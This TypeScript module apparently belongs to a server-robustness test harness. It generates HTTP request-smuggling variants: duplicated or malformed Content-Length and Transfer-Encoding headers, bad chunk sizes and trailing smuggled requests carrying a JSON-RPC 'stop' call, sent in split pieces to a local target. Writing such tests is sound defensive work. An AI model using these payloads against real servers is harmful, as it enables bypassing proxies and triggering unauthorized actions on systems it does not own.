/** Requests whose end two parsers could see differently. */
import { type Attack, type AttackTarget, between, oneOf, repeat, send } from '../target.ts';

const CALL = '{"method":"stop","params":[],"id":1}';
const line = (size: number | string, end = '\r\n') => `${typeof size === 'number' ? size.toString(16) : size}${end}`;

function request({ random }: AttackTarget): string {
  const length = CALL.length;
  const lengths = oneOf(random, [
    `Content-Length: ${length}\r\nContent-Length: ${length + between(random, 1, 50)}\r\n`,
    `Content-Length: ${length}\r\ncontent-length: 0\r\n`,
    `Content-Length: +${length}\r\n`,
    `Content-Length: ${length}, ${length}\r\n`,
    `Content-Length : ${length}\r\n`,
    `Content-Length: ${'9'.repeat(between(random, 16, 40))}\r\n`,
    `Content-Length: ${length}\r\nTransfer-Encoding: chunked\r\n`,
    'Transfer-Encoding: gzip, chunked\r\n',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
    'Transfer-Encoding: xchunked\r\n',
    'Transfer-Encoding: chunked\r\n',
    `Content-Length: ${length}\r\nHost: other.example\r\n`,
    ` Content-Length: ${length}\r\n`,
  ]);
  const size = oneOf(random, [
    line(length),
    line(length, '\n'),
    line(`0x${length}`),
    line(`-${length}`),
    line('f'.repeat(17)),
  ]);
  const trailer = oneOf(random, ['\r\n', 'X-Trailer: a\r\n\r\n', 'Content-Length: 5\r\n\r\n', '\n']);
  const body = lengths.includes('chunked') ? `${size}${CALL}\r\n0\r\n${trailer}` : CALL;
  const next = oneOf(random, [
    '',
    `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: ${length}\r\n\r\n${CALL}`,
    'GET /api/health HTTP/1.1\r\n',
  ]);
  return `POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n${lengths}\r\n${body}${next}`;
}

export const framing: Attack = {
  name: 'HTTP framing',
  run: (target) =>
    repeat(target, 4, 10, async () => {
      const { random, networks } = target;
      const bytes = Buffer.from(request(target));
      const cut = between(random, 1, bytes.length - 1);
      await send(target, oneOf(random, networks), [bytes.subarray(0, cut), bytes.subarray(cut)], oneOf(random, [0, 5]));
    }),
};
